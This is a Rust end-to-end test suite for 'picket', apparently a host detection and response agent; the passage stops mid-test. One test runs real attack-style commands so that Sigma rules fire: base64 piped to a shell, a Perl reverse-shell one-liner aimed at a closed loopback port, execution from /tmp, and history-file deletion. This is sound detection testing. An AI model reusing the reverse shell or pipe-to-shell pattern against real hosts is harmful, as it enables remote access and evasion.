//! End-to-end tests of the `picket` binary: a real agent process, real inotify, a real SQLite
//! journal in a temp dir, real signals. Nothing here needs root.

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

const PICKET: &str = env!("CARGO_BIN_EXE_picket");
const WAIT: Duration = Duration::from_secs(20);

fn picket(args: &[&str]) -> Output {
    Command::new(PICKET).args(args).output().expect("run picket")
}

/// A test agent: its own data dir and watched dir, a config pointing at them.
struct TestAgent {
    dir: tempfile::TempDir,
    child: Option<Child>,
    lines: Option<mpsc::Receiver<String>>,
    seen: Vec<String>,
}

impl TestAgent {
    fn new(extra_config: &str) -> TestAgent {
        TestAgent::build(false, None, extra_config)
    }

    /// An agent that also tails `<dir>/auth.log` and runs the policies in `policies`.
    fn with_auth(policies: &Path) -> TestAgent {
        TestAgent::build(true, Some(policies), "")
    }

    fn build(auth: bool, policies: Option<&Path>, extra_config: &str) -> TestAgent {
        // The process source is on only where a test asks for it (`PROCESS_ON` in extra_config):
        // as root it would journal every process on the machine.
        let process = extra_config.contains(PROCESS_ON);
        let extra_config = extra_config.replace(PROCESS_ON, "");
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(dir.path().join("watch")).unwrap();
        std::fs::create_dir_all(dir.path().join("policies")).unwrap();
        std::fs::write(dir.path().join("auth.log"), b"").unwrap();
        let d = dir.path().display();
        let policies = policies.map_or_else(|| format!("{d}/policies"), |p| p.display().to_string());
        let config = format!(
            "[agent]\ndata_dir = \"{d}/data\"\nhealth_interval_secs = 1\nstatus_interval_secs = 1\n\
             [sources.file]\npaths = [\"{d}/watch\"]\n\
             [sources.auth]\nenabled = {auth}\nfiles = [\"{d}/auth.log\"]\n\
             [sources.process]\nenabled = {process}\n\
             [policies]\npaths = [\"{policies}\"]\n{extra_config}"
        );
        std::fs::write(dir.path().join("picket.toml"), config).unwrap();
        TestAgent { dir, child: None, lines: None, seen: Vec::new() }
    }

    fn config(&self) -> PathBuf {
        self.dir.path().join("picket.toml")
    }
    fn data_dir(&self) -> PathBuf {
        self.dir.path().join("data")
    }
    fn watch(&self) -> PathBuf {
        self.dir.path().join("watch")
    }

    fn start(&mut self) {
        let mut child = Command::new(PICKET)
            .args(["run", "--config", self.config().to_str().unwrap()])
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("start picket run");
        let out = child.stdout.take().unwrap();
        let (tx, rx) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(out).lines() {
                let Ok(line) = line else { break };
                println!("agent| {line}");
                if tx.send(line).is_err() {
                    break;
                }
            }
        });
        self.child = Some(child);
        self.lines = Some(rx);
        self.seen.clear();
        self.wait_line(|l| l.contains("source file: running"));
    }

    /// Wait until the live view prints a line matching `pred`; panics with what it saw otherwise.
    fn wait_line(&mut self, pred: impl Fn(&str) -> bool) -> String {
        let deadline = Instant::now() + WAIT;
        if let Some(l) = self.seen.iter().find(|l| pred(l)) {
            return l.clone();
        }
        let rx = self.lines.as_ref().unwrap();
        while let Some(left) = deadline.checked_duration_since(Instant::now()) {
            match rx.recv_timeout(left) {
                Ok(l) => {
                    self.seen.push(l.clone());
                    if pred(&l) {
                        return l;
                    }
                }
                Err(_) => break,
            }
        }
        panic!("no matching line within {WAIT:?}; saw:\n{}", self.seen.join("\n"));
    }

    fn signal(&self, sig: &str) {
        let pid = self.child.as_ref().unwrap().id().to_string();
        assert!(Command::new("kill").args([sig, &pid]).status().unwrap().success());
    }

    /// SIGTERM, then the exit status and how long it took.
    fn stop(&mut self) -> (std::process::ExitStatus, Duration) {
        self.signal("-TERM");
        let t = Instant::now();
        let mut child = self.child.take().unwrap();
        loop {
            if let Some(status) = child.try_wait().unwrap() {
                // Drain the rest of the output so the last lines are visible in failures.
                while let Ok(l) = self.lines.as_ref().unwrap().recv_timeout(Duration::from_millis(200)) {
                    self.seen.push(l);
                }
                return (status, t.elapsed());
            }
            assert!(t.elapsed() < Duration::from_secs(15), "agent ignored SIGTERM");
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    fn kill9(&mut self) {
        self.signal("-KILL");
        self.child.take().unwrap().wait().unwrap();
    }

    /// Poll the journal (read-only, while the agent runs) until `pred` holds for some event.
    fn wait_journal(&self, pred: impl Fn(&serde_json::Value) -> bool) -> Vec<serde_json::Value> {
        let deadline = Instant::now() + WAIT;
        loop {
            let events = self.export();
            if events.iter().any(&pred) {
                return events;
            }
            assert!(Instant::now() < deadline, "journal never had the event; it has:\n{events:#?}");
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    /// Wait until `picket status` reports this agent running; returns what it printed.
    fn wait_status_running(&self) -> String {
        let deadline = Instant::now() + WAIT;
        loop {
            let out = picket(&["status", "--data-dir", self.data_dir().to_str().unwrap()]);
            let text = String::from_utf8_lossy(&out.stdout).to_string();
            if out.status.success() && text.contains("running (pid") {
                return text;
            }
            assert!(Instant::now() < deadline, "status never showed running: {text}");
            std::thread::sleep(Duration::from_millis(100));
        }
    }

    fn export(&self) -> Vec<serde_json::Value> {
        let out = picket(&["journal", "export", "--data-dir", self.data_dir().to_str().unwrap()]);
        assert!(out.status.success(), "export failed: {}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8(out.stdout)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("bad NDJSON line {l}: {e}")))
            .collect()
    }
}

impl Drop for TestAgent {
    fn drop(&mut self) {
        if let Some(mut c) = self.child.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

fn file_events_for<'a>(events: &'a [serde_json::Value], path: &Path) -> Vec<&'a serde_json::Value> {
    let p = path.to_str().unwrap();
    events.iter().filter(|e| e["file"]["path"] == p).collect()
}

fn schema_validator() -> jsonschema::Validator {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/schema/event.schema.json");
    let schema: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    jsonschema::validator_for(&schema).unwrap()
}

#[test]
fn file_written_in_watched_dir_shows_in_live_view_and_export_and_sigterm_exits_zero_fast() {
    let mut agent = TestAgent::new("");
    agent.start();
    let f = agent.watch().join("hello.txt");
    std::fs::write(&f, b"hi").unwrap();
    agent.wait_line(|l| l.contains("file.create") && l.contains("hello.txt"));
    agent.wait_line(|l| l.contains("── status:"));
    // The health task writes status.json right after journaling an agent.health event.
    agent.wait_status_running();

    let (status, took) = agent.stop();
    assert!(status.success(), "exit {status:?}");
    assert!(took < Duration::from_secs(5), "shutdown took {took:?}");

    let events = agent.export();
    let mine = file_events_for(&events, &f);
    assert!(mine.iter().any(|e| e["kind"] == "file.create"), "no file.create for {f:?} in {events:#?}");
    assert!(events.iter().any(|e| e["kind"] == "agent.health"), "no agent.health event");

    // Every event the agent produced validates against the committed schema, and seqs are
    // strictly increasing from 1.
    let v = schema_validator();
    let mut prev = 0;
    for e in &events {
        let errors: Vec<String> = v.iter_errors(e).map(|e| e.to_string()).collect();
        assert!(errors.is_empty(), "{e} does not match the schema: {errors:?}");
        let seq = e["seq"].as_u64().unwrap();
        assert!(seq > prev, "seq {seq} after {prev}");
        prev = seq;
    }
    assert_eq!(events[0]["seq"], 1);
    let host = events[0]["host"]["id"].as_str().unwrap();
    assert!(!host.is_empty() && events.iter().all(|e| e["host"]["id"] == host));
}

#[test]
fn kill_9_then_restart_loses_no_committed_event_and_seq_carries_on() {
    let mut agent = TestAgent::new("");
    agent.start();
    for i in 0..20 {
        std::fs::write(agent.watch().join(format!("before-{i}")), b"x").unwrap();
    }
    // What a reader sees in the journal is committed.
    let committed =
        agent.wait_journal(|e| e["file"]["path"].as_str().is_some_and(|p| p.ends_with("before-19")));
    assert!(committed.len() >= 20);
    agent.kill9();

    agent.start();
    for i in 0..5 {
        std::fs::write(agent.watch().join(format!("after-{i}")), b"x").unwrap();
    }
    agent.wait_journal(|e| e["file"]["path"].as_str().is_some_and(|p| p.ends_with("after-4")));
    let (status, _) = agent.stop();
    assert!(status.success());

    let all = agent.export();
    // Every committed event is still there, byte-identical, in place.
    for c in &committed {
        let seq = c["seq"].as_u64().unwrap();
        let now = all.iter().find(|e| e["seq"] == seq).unwrap_or_else(|| panic!("seq {seq} lost"));
        assert_eq!(now, c);
    }
    let seqs: Vec<u64> = all.iter().map(|e| e["seq"].as_u64().unwrap()).collect();
    assert!(seqs.windows(2).all(|w| w[0] < w[1]), "seq not strictly increasing: {seqs:?}");
    let last_before = committed.last().unwrap()["seq"].as_u64().unwrap();
    let after =
        all.iter().find(|e| e["file"]["path"].as_str().is_some_and(|p| p.ends_with("after-0"))).unwrap();
    assert!(after["seq"].as_u64().unwrap() > last_before);
}

#[test]
fn corrupt_journal_is_refused_with_its_name_and_left_byte_for_byte() {
    let agent = TestAgent::new("");
    std::fs::create_dir_all(agent.data_dir()).unwrap();
    let journal = agent.data_dir().join("journal.db");
    let garbage: Vec<u8> =
        (0..100_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13).to_le_bytes()[0]).collect();
    std::fs::write(&journal, &garbage).unwrap();

    let run = Command::new(PICKET)
        .args(["run", "--config", agent.config().to_str().unwrap()])
        .stdout(Stdio::null())
        .output()
        .unwrap();
    assert!(!run.status.success());
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(err.contains(journal.to_str().unwrap()), "error does not name the file: {err}");

    let stats = picket(&["journal", "stats", "--data-dir", agent.data_dir().to_str().unwrap()]);
    assert!(!stats.status.success());
    assert!(String::from_utf8_lossy(&stats.stderr).contains("journal.db"));

    assert_eq!(std::fs::read(&journal).unwrap(), garbage, "the corrupt journal was modified");
    let names: Vec<_> =
        std::fs::read_dir(agent.data_dir()).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert!(names.iter().all(|n| n != "journal.db-wal"), "left a WAL beside a corrupt journal: {names:?}");
}

#[test]
fn status_shows_a_running_agent_and_then_that_it_stopped() {
    let mut agent = TestAgent::new("");
    agent.start();
    let data = agent.data_dir();
    let shown = agent.wait_status_running();
    assert!(shown.contains("file       running"), "{shown}");
    assert!(shown.contains("process    disabled"), "{shown}");
    assert!(shown.contains("journal:"), "{shown}");

    let (status, _) = agent.stop();
    assert!(status.success());
    let out = picket(&["status", "--data-dir", data.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("not running (stopped)"), "{text}");
}

#[test]
fn a_missing_watched_path_is_reported_and_the_agent_keeps_running() {
    let mut agent = TestAgent::new("");
    std::fs::remove_dir(agent.watch()).unwrap();
    let mut child = Command::new(PICKET)
        .args(["run", "--config", agent.config().to_str().unwrap()])
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let out = child.stdout.take().unwrap();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(out).lines().map_while(Result::ok) {
            let _ = tx.send(line);
        }
    });
    agent.child = Some(child);
    agent.lines = Some(rx);
    let l = agent.wait_line(|l| l.contains("source file:"));
    assert!(l.contains("unavailable") && l.contains("does not exist"), "{l}");
    agent.wait_line(|l| l.contains("── status:"));
    let (status, _) = agent.stop();
    assert!(status.success());
}

#[test]
fn config_check_names_every_mistake_with_line_and_exits_2() {
    let broken = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/config/broken.toml");
    let out = picket(&["config", "check", broken.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    let lines: Vec<&str> = err.lines().filter(|l| l.starts_with(broken.to_str().unwrap())).collect();
    assert!(lines.len() >= 5, "expected every mistake reported, got:\n{err}");
    for needle in
        ["agent.mode", "sources.fiel", "journal.max_bytes", "containment.protected_cidrs", "agent.colour"]
    {
        assert!(err.contains(needle), "{needle} not reported:\n{err}");
    }
}

#[test]
fn default_config_prints_and_passes_its_own_check() {
    let out = picket(&["config", "default"]);
    assert!(out.status.success());
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("default.toml");
    std::fs::write(&f, &out.stdout).unwrap();
    let check = picket(&["config", "check", f.to_str().unwrap()]);
    assert!(check.status.success(), "{}", String::from_utf8_lossy(&check.stderr));
    let text = String::from_utf8_lossy(&out.stdout);
    for key in ["data_dir", "mode", "device_id", "protected_cidrs", "topic_prefix", "max_bytes"] {
        assert!(text.contains(key), "default config lacks {key}");
    }
}

#[test]
fn every_contract_command_is_listed_and_works() {
    let help = String::from_utf8(picket(&["--help"]).stdout).unwrap();
    for cmd in ["run", "config", "policy", "replay", "journal", "identity", "actions", "status", "collect"] {
        assert!(help.contains(&format!("  {cmd} ")), "--help lacks {cmd}:\n{help}");
    }
    // pcap replay: an empty input is not a capture (exit 2, said plainly); a real one gives flows.
    let args = ["replay", "--format", "pcap", "-"];
    let out = picket(&args);
    assert_eq!(out.status.code(), Some(2), "{args:?}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a pcap or pcapng file"), "{args:?}");
    let capture = Path::new(env!("CARGO_MANIFEST_DIR")).join("../netcap/tests/data/lab-eth.pcap");
    let out = picket(&["replay", "--format", "pcap", "--emit", "events", capture.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let kinds: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap()["kind"].as_str().unwrap().to_string())
        .collect();
    assert!(kinds.iter().any(|k| k == "net.flow") && kinds.iter().any(|k| k == "net.dns"), "{kinds:?}");
    // `actions` is built: on a data dir without containment state it says so and succeeds.
    let dir = tempfile::tempdir().unwrap();
    let out = picket(&["actions", "list", "--data-dir", dir.path().to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("no containment actions recorded"));
    let out = picket(&["actions", "revert", "7", "--data-dir", dir.path().to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no containment action 7"));
}

/// Marker for `TestAgent::new`: turn the process source on.
const PROCESS_ON: &str = "#process-on\n";

#[test]
fn a_program_run_while_the_agent_runs_is_journaled_as_process_start_and_exit() {
    if !nix_is_root() {
        eprintln!("\n*** SKIPPED (needs root: the process connector needs CAP_NET_ADMIN) ***\n");
        return;
    }
    let mut agent = TestAgent::new(PROCESS_ON);
    agent.start();
    agent.wait_line(|l| l.contains("source process: running"));
    let token = format!("picket-e2e-{}", std::process::id());
    // $0 of the shell is the token, so it is in the program's argv; it lives long enough for /proc.
    let status = Command::new("/bin/sh").args(["-c", "sleep 0.3; exit 3", &token]).status().unwrap();
    assert_eq!(status.code(), Some(3));
    let has_token = |e: &serde_json::Value| {
        e["process"]["args"].as_array().is_some_and(|a| a.iter().any(|v| v == token.as_str()))
    };
    let events = agent.wait_journal(|e| e["kind"] == "process.start" && has_token(e));
    let start = events.iter().find(|e| e["kind"] == "process.start" && has_token(e)).unwrap();
    assert_eq!(start["process"]["executable"], "/bin/sh", "{start}");
    assert_eq!(start["process"]["command_line"], format!("/bin/sh -c sleep 0.3; exit 3 {token}"), "{start}");
    assert!(start["process"]["start_ticks"].as_u64().is_some(), "{start}");
    let pid = start["process"]["pid"].clone();
    let events = agent.wait_journal(|e| e["kind"] == "process.exit" && e["process"]["pid"] == pid);
    let exit = events.iter().find(|e| e["kind"] == "process.exit" && e["process"]["pid"] == pid).unwrap();
    assert_eq!(exit["process"]["exit_code"], 3, "{exit}");
    let validator = schema_validator();
    for e in [start, exit] {
        assert!(validator.is_valid(e), "schema: {e}");
    }
    let (st, _) = agent.stop();
    assert!(st.success());
}

fn nix_is_root() -> bool {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines().find(|l| l.starts_with("Uid:")).map(|l| l.split_whitespace().nth(2) == Some("0"))
        })
        .unwrap_or(false)
}

const DROP_POLICY: &str = r#"
id: test-dropped-evil
name: evil file dropped
description: three .evil files within a minute
mitre: T1105
on: file.create
when: file.path endswith ".evil"
threshold: {count: 3, within: 1m}
severity: high
actions:
  - quarantine: {target: file.path}
"#;

#[test]
fn an_alert_is_journaled_after_its_trigger_and_the_count_survives_a_restart() {
    let mut agent = TestAgent::new("");
    std::fs::write(agent.dir.path().join("policies/drop.yaml"), DROP_POLICY).unwrap();
    agent.start();
    agent.wait_line(|l| l.contains("policies: 1 rule(s) loaded"));
    std::fs::write(agent.watch().join("1.evil"), b"x").unwrap();
    std::fs::write(agent.watch().join("2.evil"), b"x").unwrap();
    agent.wait_journal(|e| e["file"]["path"].as_str().is_some_and(|p| p.ends_with("2.evil")));
    let (status, _) = agent.stop();
    assert!(status.success());
    assert!(agent.export().iter().all(|e| e["kind"] != "alert"), "fired before the third file");

    // Two of three counted; a restart must not reset the count.
    agent.start();
    std::fs::write(agent.watch().join("3.evil"), b"x").unwrap();
    let line = agent.wait_line(|l| l.contains("ALERT"));
    assert!(line.contains("test-dropped-evil"), "{line}");
    assert!(line.contains("monitor mode, would: quarantine"), "{line}");
    let events = agent.wait_journal(|e| e["kind"] == "alert");
    let alert = events.iter().find(|e| e["kind"] == "alert").unwrap();
    let trigger = events
        .iter()
        .find(|e| {
            e["kind"] == "file.create" && e["file"]["path"].as_str().is_some_and(|p| p.ends_with("3.evil"))
        })
        .unwrap();
    assert!(alert["seq"].as_u64() > trigger["seq"].as_u64(), "alert before its trigger");
    assert_eq!(alert["rule"]["id"], "test-dropped-evil");
    assert_eq!(alert["event"]["severity"], 73);
    let v = schema_validator();
    assert!(v.is_valid(alert), "alert does not match the schema");
    agent.stop();
}

#[test]
fn a_bad_policy_stops_start_with_its_file_and_line_and_a_bad_reload_keeps_the_running_set() {
    let mut agent = TestAgent::new("");
    let pol = agent.dir.path().join("policies/drop.yaml");
    std::fs::write(&pol, "id: x\nmitre: T1105\non: file.create\nwhen: file.pth == \"a\"\n").unwrap();
    let out =
        Command::new(PICKET).args(["run", "--config", agent.config().to_str().unwrap()]).output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains(&format!("{}:4:", pol.display())), "no file:line in {err}");

    std::fs::write(&pol, DROP_POLICY).unwrap();
    agent.start();
    std::fs::write(&pol, "id: x\non: [file.create\n").unwrap();
    agent.wait_line(|l| l.contains("policy reload (a policy file changed) failed"));
    for i in 0..3 {
        std::fs::write(agent.watch().join(format!("{i}.evil")), b"x").unwrap();
    }
    agent.wait_line(|l| l.contains("ALERT") && l.contains("test-dropped-evil"));
    agent.stop();
}

#[test]
fn policy_check_and_test_pass_on_the_shipped_policies_and_check_fails_on_a_broken_one() {
    let shipped = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../policies");
    let check = picket(&["policy", "check", shipped.to_str().unwrap()]);
    assert!(check.status.success(), "{}", String::from_utf8_lossy(&check.stderr));
    let test = picket(&["policy", "test", shipped.to_str().unwrap()]);
    let text = String::from_utf8_lossy(&test.stdout);
    assert!(test.status.success(), "{text}");
    assert!(text.lines().last().is_some_and(|l| l.ends_with(" 0 failed")), "{text}");

    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.yaml");
    std::fs::write(&bad, "id: bad\non: auth.failure\nwhen: file.path == \"/x\"\nseverity: high\n").unwrap();
    let out = picket(&["policy", "check", bad.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains(&format!("{}:3:", bad.display())) && err.contains("file.path"), "{err}");
}

#[test]
fn replay_of_events_runs_the_real_engine_and_prints_decisions() {
    let shipped = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../policies");
    let mut input = String::new();
    for i in 0..5 {
        input.push_str(&format!(
            "{{\"schema_version\":1,\"kind\":\"auth.failure\",\"seq\":{},\"@timestamp\":\"2026-11-23T10:00:0{i}Z\",\
             \"host\":{{\"id\":\"d\"}},\"event\":{{\"severity\":21,\"action\":\"password\"}},\"process\":{{\"name\":\"sshd\"}},\
             \"source\":{{\"ip\":\"203.0.113.9\",\"port\":4000}},\"user\":{{\"name\":\"root\"}}}}\n",
            i + 1
        ));
    }
    input.push_str("this is not an event\n");
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("in.ndjson");
    std::fs::write(&f, input).unwrap();
    let out = picket(&[
        "replay",
        "--format",
        "events",
        "--policies",
        shipped.to_str().unwrap(),
        "--emit",
        "decisions",
        f.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2), "a bad line is reported in the exit code");
    assert!(String::from_utf8_lossy(&out.stderr).contains("in.ndjson:6: not a picket event"));
    let decisions: Vec<serde_json::Value> =
        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(decisions.len(), 1, "{decisions:?}");
    let d = &decisions[0];
    assert_eq!(d["kind"], "decision");
    assert_eq!(d["rule_id"], "ssh-brute-force");
    assert_eq!(d["trigger_seq"], 5);
    assert_eq!(d["actions"][0]["action"], "block_ip");
    assert_eq!(d["actions"][0]["ip"], "203.0.113.9");
    assert_eq!(d["actions"][0]["ttl_secs"], 3600);
}

fn shipped_policies() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../policies")
}

#[test]
fn five_failed_ssh_logins_in_the_auth_log_raise_the_brute_force_alert() {
    let mut agent = TestAgent::with_auth(&shipped_policies());
    agent.start();
    agent.wait_line(|l| l.contains("source auth: running"));
    let log = agent.dir.path().join("auth.log");
    let mut f = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
    let now = picket_now_iso();
    for i in 0..5 {
        use std::io::Write;
        writeln!(
            f,
            "{now} vm sshd[{}]: Failed password for root from 203.0.113.50 port {} ssh2",
            4000 + i,
            50000 + i
        )
        .unwrap();
    }
    drop(f);
    let line = agent.wait_line(|l| l.contains("ALERT"));
    assert!(line.contains("ssh-brute-force"), "{line}");
    assert!(line.contains("would: block_ip 203.0.113.50 for 3600s"), "{line}");
    let events = agent.wait_journal(|e| e["kind"] == "alert");
    let failures: Vec<_> = events.iter().filter(|e| e["kind"] == "auth.failure").collect();
    assert_eq!(failures.len(), 5, "{failures:#?}");
    assert!(failures.iter().all(|e| e["source"]["ip"] == "203.0.113.50" && e["user"]["name"] == "root"));
    let (status, _) = agent.stop();
    assert!(status.success());
}

/// Now as rsyslog's RSYSLOG_FileFormat writes it.
fn picket_now_iso() -> String {
    let out = Command::new("date").args(["-u", "+%Y-%m-%dT%H:%M:%S.%6N+00:00"]).output().unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

#[test]
fn replay_of_a_real_sshd_log_prints_events_and_garbage_is_counted_not_fatal() {
    let real = Path::new(env!("CARGO_MANIFEST_DIR")).join("../capture/tests/data/auth/real-sshd.log");
    let out = picket(&["replay", "--format", "auth-log", "--emit", "events", real.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let events: Vec<serde_json::Value> =
        String::from_utf8_lossy(&out.stdout).lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert!(events.len() >= 10, "only {} events", events.len());
    assert!(events.iter().all(|e| e["kind"] == "auth.failure" || e["kind"] == "auth.success"));

    let dir = tempfile::tempdir().unwrap();
    let junk = dir.path().join("junk.log");
    let mut bytes: Vec<u8> =
        (0..200_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 7).to_le_bytes()[0]).collect();
    bytes.extend(std::iter::repeat_n(b'A', 1 << 20));
    bytes.push(b'\n');
    std::fs::write(&junk, bytes).unwrap();
    let out = picket(&["replay", "--format", "auth-log", junk.to_str().unwrap()]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("auth events"));
}

#[test]
fn end_to_end_acks_without_a_readable_collector_key_refuse_to_start() {
    let agent = TestAgent::new(
        "[uplink]\nenabled = true\nbroker = \"mqtt://127.0.0.1:1\"\nack = \"collector\"\n\
         collector_key_file = \"/nonexistent/collector.pub\"\n",
    );
    let mut child = Command::new(PICKET)
        .args(["run", "--config", agent.config().to_str().unwrap()])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let t = Instant::now();
    let status = loop {
        if let Some(st) = child.try_wait().unwrap() {
            break st;
        }
        if t.elapsed() > WAIT {
            let _ = child.kill();
            panic!("the agent started without the collector key (it must refuse)");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let mut err = String::new();
    std::io::Read::read_to_string(&mut child.stderr.take().unwrap(), &mut err).unwrap();
    assert!(!status.success());
    assert!(err.contains("collector_key_file") && err.contains("/nonexistent/collector.pub"), "{err}");
}

/// A directory under /tmp the test owns (Sigma's "execution from /tmp" rule needs the real /tmp,
/// wherever TMPDIR points), removed at the end.
fn tmp_dir_under_slash_tmp(tag: &str) -> tempfile::TempDir {
    tempfile::Builder::new().prefix(&format!("picket-{tag}-")).tempdir_in("/tmp").unwrap()
}

/// An `alert` whose `rule.id` is `id` and whose trigger (the event its `event.trigger_seq` names)
/// has `needle` in its command line. Other processes may fire the same rule: run from a clone
/// under /tmp, the test's own `picket journal export` is "execution from /tmp".
fn sigma_alert(
    events: &[serde_json::Value],
    id: &str,
    needle: &str,
) -> Option<(serde_json::Value, serde_json::Value)> {
    events.iter().filter(|e| e["kind"] == "alert" && e["rule"]["id"] == id).find_map(|alert| {
        let trigger = events.iter().find(|e| e["seq"] == alert["event"]["trigger_seq"])?;
        let cmd = trigger["process"]["command_line"].as_str()?;
        cmd.contains(needle).then(|| (alert.clone(), trigger.clone()))
    })
}

#[test]
fn shipped_sigma_rules_fire_on_real_commands_run_under_the_agent() {
    if !nix_is_root() {
        eprintln!("\n*** SKIPPED (needs root: the process connector needs CAP_NET_ADMIN) ***\n");
        return;
    }
    let sigma = shipped_policies().join("sigma");
    let mut agent = TestAgent::build(false, Some(&sigma), PROCESS_ON);
    agent.start();
    agent.wait_line(|l| l.contains("source process: running"));
    let work = tmp_dir_under_slash_tmp("sigma");
    let w = work.path().display().to_string();

    // 1. Base64 piped to a shell (decodes to `echo hi`).
    let st = Command::new("/bin/sh").args(["-c", "echo ZWNobyBoaQ== | base64 -d | sh"]).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&st.stdout).trim(), "hi");
    // 2. A perl reverse shell aimed at a closed loopback port: connect fails, nothing runs.
    let perl = "use Socket;$i=\"127.0.0.1\";$p=9;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\
                if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");};";
    let st = Command::new("/usr/bin/perl").args(["-e", perl]).status().unwrap();
    assert!(st.success());
    // 3. A program run from /tmp.
    let dropped = work.path().join("kworker");
    std::fs::copy("/bin/true", &dropped).unwrap();
    assert!(Command::new(&dropped).status().unwrap().success());
    // 4. A shell history file deleted (one the test wrote).
    let history = work.path().join(".bash_history");
    std::fs::write(&history, "ls\n").unwrap();
    assert!(Command::new("/bin/rm").args(["-f", history.to_str().unwrap()]).status().unwrap().success());

    let expected = [
        ("ba592c6d-6888-43c3-b8c6-689b8fe47337", "base64 -d | sh".to_string()), // Linux Base64 Encoded Pipe to Shell
        ("259df6bc-003f-4306-9f54-4ff1a08fa38e", "sockaddr_in".to_string()), // Perl Reverse Shell Execution
        ("312b42b1-bded-4441-8b58-163a3af58775", format!("{w}/kworker")),    // Execution From Tmp Folder
        ("1182f3b3-e716-4efa-99ab-d2685d04360f", format!("{w}/.bash_history")), // History File Deletion
    ];
    for (id, needle) in &expected {
        let deadline = Instant::now() + WAIT;
        let (alert, trigger) = loop {
            let events = agent.export();
            if let Some(found) = sigma_alert(&events, id, needle) {
                break found;
            }
            assert!(Instant::now() < deadline, "{id}: no alert on a command with {needle:?}:\n{events:#?}");
            std::thread::sleep(Duration::from_millis(50));
        };
        let (alert, trigger) = (&alert, &trigger);
        assert_eq!(trigger["kind"], "process.start", "{alert}");
        assert_eq!(alert["rule"]["ruleset"], "sigma");
        assert!(alert["rule"]["author"].as_str().is_some_and(|a| !a.is_empty()), "{alert}");
        assert!(alert["rule"]["level"].is_string() && alert["rule"]["tags"].is_array(), "{alert}");
        assert_eq!(alert["process"]["pid"], trigger["process"]["pid"], "the alert carries the process");
        assert!(alert["seq"].as_u64() > trigger["seq"].as_u64());
        assert!(schema_validator().is_valid(alert), "schema: {alert}");
    }
    // Health counts what Sigma raised.
    agent.wait_journal(|e| {
        e["kind"] == "agent.health" && e["health"]["detections"]["sigma.alerts.high"].as_u64() >= Some(2)
    });
    let (st, _) = agent.stop();
    assert!(st.success());
}

#[test]
fn a_policy_kills_the_process_a_sigma_rule_caught_running_from_tmp() {
    if !nix_is_root() {
        eprintln!("\n*** SKIPPED (needs root: the process connector needs CAP_NET_ADMIN) ***\n");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let rule = "proc_creation_lnx_susp_execution_tmp_folder.yml";
    std::fs::copy(shipped_policies().join("sigma/process_creation").join(rule), dir.path().join(rule))
        .unwrap();
    std::fs::write(
        dir.path().join("kill-tmp.yaml"),
        "id: kill-sigma-tmp-exec\ndescription: kill what Sigma saw run from /tmp\nmitre: T1059\non: alert\n\
         when: rule.ruleset == \"sigma\" and rule.level in [\"medium\", \"high\", \"critical\"] and \
         process.executable startswith \"/tmp/picket-kill-\"\nseverity: high\nmode: enforce\nactions:\n  - kill\n",
    )
    .unwrap();
    // The test runs as root, so the process it starts does too: root processes are protected
    // unless `allow_root` says otherwise.
    let extra = format!("{PROCESS_ON}[containment]\nallow_root = true\n");
